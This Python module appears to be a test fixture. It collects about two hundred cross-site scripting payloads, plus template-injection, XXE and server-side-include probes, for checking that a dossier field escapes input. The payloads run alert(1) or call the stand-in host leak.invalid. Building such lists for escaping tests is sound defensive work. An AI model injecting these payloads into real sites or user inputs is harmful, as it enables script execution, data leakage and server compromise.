"""Some two hundred texts that a browser would run, or ask another host for, if a page did not escape them.

Each is a kind of its own: another element, another way out of an attribute or an element, another language.
What runs calls `alert`, what is asked for is asked of `leak.invalid`.
"""

_RUN = "alert(1)"
_ASKED = "//leak.invalid/x"

_ELEMENTS = f"""\
<script>{_RUN}</script>
<SCRIPT>{_RUN}</SCRIPT>
<script src={_ASKED}></script>
<script/x>{_RUN}</script>
<script type=module>{_RUN}</script>
<scr<script>ipt>{_RUN}</scr</script>ipt>
<<script>{_RUN}//<</script>
<script>/*</title>*/{_RUN}</script>
<script x=">">{_RUN}</script>
<img src=x onerror={_RUN}>
<img src="x" onerror="{_RUN}">
<img src='x' onerror='{_RUN}'>
<img src=`x` onerror=`{_RUN}`>
<img/src=x/onerror={_RUN}>
<IMG SRC=x ONERROR={_RUN}>
<image src=x onerror={_RUN}>
<img src=x onerror={_RUN}//
<img src={_ASKED}>
<img srcset="{_ASKED} 1x">
<img src=x:x onerror="&#97;lert(1)">
<img src=x onerror=\\u0061lert(1)>
<img src onerror=eval('ale'+'rt(1)')>
<picture><source srcset={_ASKED}><img></picture>
<body onload={_RUN}>
<body onpageshow={_RUN}>
<html onmouseover={_RUN}>
<iframe src=javascript:{_RUN}></iframe>
<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>
<iframe onload={_RUN}></iframe>
<iframe src={_ASKED}></iframe>
<frameset onload={_RUN}>
<object data=javascript:{_RUN}></object>
<object data="data:text/html,<script>{_RUN}</script>"></object>
<embed src=javascript:{_RUN}>
<embed src={_ASKED}>
<video src=x onerror={_RUN}></video>
<video><source onerror={_RUN}></video>
<video poster={_ASKED}></video>
<audio src=x onerror={_RUN}>
<audio autoplay src={_ASKED}>
<details open ontoggle={_RUN}>x</details>
<input autofocus onfocus={_RUN}>
<select autofocus onfocus={_RUN}></select>
<textarea autofocus onfocus={_RUN}></textarea>
<button autofocus onfocus={_RUN}>x</button>
<a id=x tabindex=1 autofocus onfocus={_RUN}>x</a>
<keygen autofocus onfocus={_RUN}>
<marquee onstart={_RUN}>x</marquee>
<dialog open oncancel={_RUN}>x</dialog>
<div popover id=p onbeforetoggle={_RUN}>x</div>
<p onanimationstart={_RUN} style=animation-name:x>x</p>
<style>@keyframes x{{}}</style><b style=animation-name:x onanimationend={_RUN}>x</b>
<style>*{{background:url({_ASKED})}}</style>
<style>@import '{_ASKED}';</style>
<style onload={_RUN}></style>
<link rel=stylesheet href={_ASKED}>
<link rel=stylesheet href=x onerror={_RUN}>
<link rel=preload as=script href={_ASKED}>
<link rel=prefetch href={_ASKED}>
<link rel=icon href={_ASKED}>
<meta http-equiv=refresh content="0;url=javascript:{_RUN}">
<meta http-equiv=refresh content="0;url={_ASKED}">
<meta charset=utf-7>
<base href={_ASKED}>
<base href="javascript:{_RUN}//">
<form action={_ASKED}><button autofocus>x</button></form>
<form action=javascript:{_RUN}><input type=submit value=x></form>
<button formaction=javascript:{_RUN}>x</button>
<isindex type=image src=1 onerror={_RUN}>
<table background={_ASKED}></table>
<td background=javascript:{_RUN}>x</td>
<bgsound src={_ASKED}>
<layer src={_ASKED}></layer>
<applet code={_ASKED}></applet>
<portal src={_ASKED}></portal>
<template><script>{_RUN}</script></template>
<noscript><p title="</noscript><img src=x onerror={_RUN}>">
<x onclick={_RUN}>x</x>
<custom-element onmouseover={_RUN}>x</custom-element>
<xmp><p title="</xmp><img src=x onerror={_RUN}>">
<listing>&lt;img src=x onerror={_RUN}&gt;</listing>
<plaintext>
<slot onslotchange={_RUN}></slot>"""

_FOREIGN = f"""\
<svg onload={_RUN}>
<svg/onload={_RUN}>
<svg><script>{_RUN}</script></svg>
<svg><script>alert&#40;1)</script></svg>
<svg><script xlink:href={_ASKED}></script></svg>
<svg><a xlink:href="javascript:{_RUN}"><text y=9>x</text></a></svg>
<svg><animate onbegin={_RUN} attributeName=x dur=1s></svg>
<svg><set onbegin={_RUN} attributeName=x></svg>
<svg><animate xlink:href=#y attributeName=href values=javascript:{_RUN} /><a id=y><text y=9>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='{_RUN}'/>#x"/></svg>
<svg><image href={_ASKED}></svg>
<svg><image href=x onerror={_RUN}></svg>
<svg><feImage href={_ASKED}></svg>
<svg><foreignObject><iframe onload={_RUN}></iframe></foreignObject></svg>
<svg><style>*{{background:url({_ASKED})}}</style></svg>
<svg><desc><img src=x onerror={_RUN}></desc></svg>
<svg><title><img src=x onerror={_RUN}></title></svg>
<svg><![CDATA[><img src=x onerror={_RUN}>]]></svg>
<math href=javascript:{_RUN}>x</math>
<math><maction actiontype=statusline xlink:href=javascript:{_RUN}>x</maction></math>
<math><mtext><img src=x onerror={_RUN}></mtext></math>
<math><annotation-xml encoding=text/html><img src=x onerror={_RUN}></annotation-xml></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={_RUN}&gt;">
<svg></p><style><a id="</style><img src=x onerror={_RUN}>">"""

_WAYS_OUT = f"""\
"><script>{_RUN}</script>
'><script>{_RUN}</script>
`><script>{_RUN}</script>
"><img src=x onerror={_RUN}>
'><img src=x onerror={_RUN}>
><img src=x onerror={_RUN}>
" autofocus onfocus={_RUN} x="
' autofocus onfocus={_RUN} x='
` autofocus onfocus={_RUN} x=`
 autofocus onfocus={_RUN} x=
" onmouseover="{_RUN}
' onmouseover='{_RUN}
"onload="{_RUN}"
" style="background:url({_ASKED})
" style="animation-name:x" onanimationstart="{_RUN}
\\"><script>{_RUN}</script>
&quot;><script>{_RUN}</script>
&#34;><script>{_RUN}</script>
%22><script>{_RUN}</script>
%22%3E%3Cscript%3E{_RUN}%3C/script%3E
</title><script>{_RUN}</script>
</title><img src=x onerror={_RUN}>
</TITLE ><svg onload={_RUN}>
</style><script>{_RUN}</script>
</textarea><script>{_RUN}</script>
</script><script>{_RUN}</script>
</script ><img src=x onerror={_RUN}>
</head><body onload={_RUN}>
</body></html><script>{_RUN}</script>
</p></div></article></main><img src=x onerror={_RUN}>
</a><a href=javascript:{_RUN}>x</a>
</span><script>{_RUN}</script>
</nav></header><script>{_RUN}</script>
</svg><script>{_RUN}</script>
</desc></svg><img src=x onerror={_RUN}>
</iframe><script>{_RUN}</script>
</noscript><script>{_RUN}</script>
</template><script>{_RUN}</script>
</select><img src=x onerror={_RUN}>
</td></tr></table><img src=x onerror={_RUN}>
<!-- --><script>{_RUN}</script>
<!--
<!-->
<!--><script>{_RUN}</script>
--><script>{_RUN}</script>
--!><script>{_RUN}</script>
<!--#exec cmd="id"-->
<![CDATA[<script>{_RUN}</script>]]>
]]><script>{_RUN}</script>
<?xml version="1.0"?><script>{_RUN}</script>
<?php echo 1 ?><script>{_RUN}</script>
<!DOCTYPE x [<!ENTITY y SYSTEM "{_ASKED}">]>&y;
<%= {_RUN} %>
";{_RUN};//
';{_RUN};//
`;{_RUN};//
${{{_RUN}}}
"-{_RUN}-"
'-{_RUN}-'
`-{_RUN}-`
\\";{_RUN};//
\\u0022;{_RUN};//
\\x3cscript\\x3e{_RUN}\\x3c/script\\x3e
}});{_RUN};({{
"}}</script><script>{_RUN}</script>
");{_RUN};(" """

_ENTITIES = f"""\
&lt;script&gt;{_RUN}&lt;/script&gt;
&amp;lt;script&amp;gt;{_RUN}&amp;lt;/script&amp;gt;
&#60;script&#62;{_RUN}&#60;/script&#62;
&#x3c;script&#x3e;{_RUN}&#x3c;/script&#x3e;
&#0000060script&#0000062{_RUN}
&ltscript&gt{_RUN}&lt/script&gt
&lt;img src=x onerror={_RUN}&gt;
&#34; autofocus onfocus={_RUN} x=&#34;
+ADw-script+AD4-{_RUN}+ADw-/script+AD4-
%C0%BCscript%C0%BE{_RUN}%C0%BC/script%C0%BE
\u00c0\u00bcscript\u00c0\u00be{_RUN}
\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e
\u2039script\u203a{_RUN}
\u02bascript\u02ba onerror={_RUN}
\u212a<\u017fcript>{_RUN}</\u017fcript>
<\u0130mg src=x onerror={_RUN}>
\u200f<img src=x onerror={_RUN}>\u200f
\u061cمرحبا<script>{_RUN}</script>
\u2067<script>{_RUN}</script>\u2069
\u00ad<\u00adscript>{_RUN}</script>
\ufeff<script>{_RUN}</script>
😀<img src=x onerror={_RUN}>
שלום" onmouseover={_RUN} x="
<scr\u200bipt>{_RUN}</scr\u200bipt>"""

_ADDRESSES = f"""\
javascript:{_RUN}
JaVaScRiPt:{_RUN}
javascript://leak.invalid/%0a{_RUN}
javascript&colon;{_RUN}
&#106;avascript:{_RUN}
java%0ascript:{_RUN}
vbscript:msgbox(1)
data:text/html,<script>{_RUN}</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
https://a.invalid/"><script>{_RUN}</script>
https://a.invalid/' onclick='{_RUN}
https://a.invalid/{_RUN}//\\"
{_ASKED}
\\\\leak.invalid\\x
feed:javascript:{_RUN}
view-source:javascript:{_RUN}
blob:javascript:{_RUN}"""

_TEMPLATES = f"""\
{{{{ 7*7 }}}}
{{{{ config.__class__.__init__.__globals__ }}}}
{{{{ self._TemplateReference__context }}}}
{{% raw %}}<script>{_RUN}</script>{{% endraw %}}
{{% include "main.html" %}}
{{% for x in (1).__class__.__base__.__subclasses__() %}}x{{% endfor %}}
{{# comment
#{{7*7}}
@@title@@
$alert(1)$
{{{{constructor.constructor('{_RUN}')()}}}}
--8<-- "mkdocs.yml"
[x](javascript:{_RUN})
[x](<javascript:{_RUN}>)
[x]: javascript:{_RUN}
![x]({_ASKED})
![x]({_ASKED}"onerror={_RUN})
[![x](x"onerror={_RUN})](javascript:{_RUN})
<javascript:{_RUN}>
<https://a.invalid/"onclick={_RUN}>
[x](https://a.invalid "x\\"onclick={_RUN} y=\\"")
{{: onclick={_RUN} }}
x {{onmouseover={_RUN}}}
# <img src=x onerror={_RUN}>
`<img src=x onerror={_RUN}>`
```html <script>{_RUN}</script>
| <script>{_RUN}</script> |
> <script>{_RUN}</script>
- <script>{_RUN}</script>
1. <script>{_RUN}</script>
*[x]: "><script>{_RUN}</script>
[^1]: <script>{_RUN}</script>
!!! note "<script>{_RUN}</script>"
=== "<script>{_RUN}</script>"
$$<script>{_RUN}</script>$$
:material-x:{{ onload={_RUN} }}
<div markdown="1"><script>{_RUN}</script></div>
[[<script>{_RUN}</script>]]
~~<script>{_RUN}</script>~~"""

_UNSEEN = (
    f"java\tscript:{_RUN}",
    f"\x01javascript:{_RUN}",
    f" javascript:{_RUN}",
    f"java\nscript:{_RUN}",
    f"<script\t>{_RUN}</script\t>",
    f"<scr\x00ipt>{_RUN}</scr\x00ipt>",
    f"<img\x0csrc=x\x0conerror={_RUN}>",
    f"<img src=x\nonerror={_RUN}>",
    f"\x1b]0;<script>{_RUN}</script>\x07",
    f"\u202e<script>{_RUN}</script>\u202c",
    f"x\u2028{_RUN}//",
    f"\x0b<svg onload={_RUN}>",
)

ON_ONE_LINE: tuple[str, ...] = tuple(
    line
    for kinds in (_ELEMENTS, _FOREIGN, _WAYS_OUT, _ENTITIES, _ADDRESSES, _TEMPLATES)
    for line in kinds.split("\n")
)
"""Those that may stand in a field of a dossier, as far as its rules allow."""

PAYLOADS: tuple[str, ...] = (*ON_ONE_LINE, *_UNSEEN)
"""All of them, with those that hide in characters which nobody sees."""
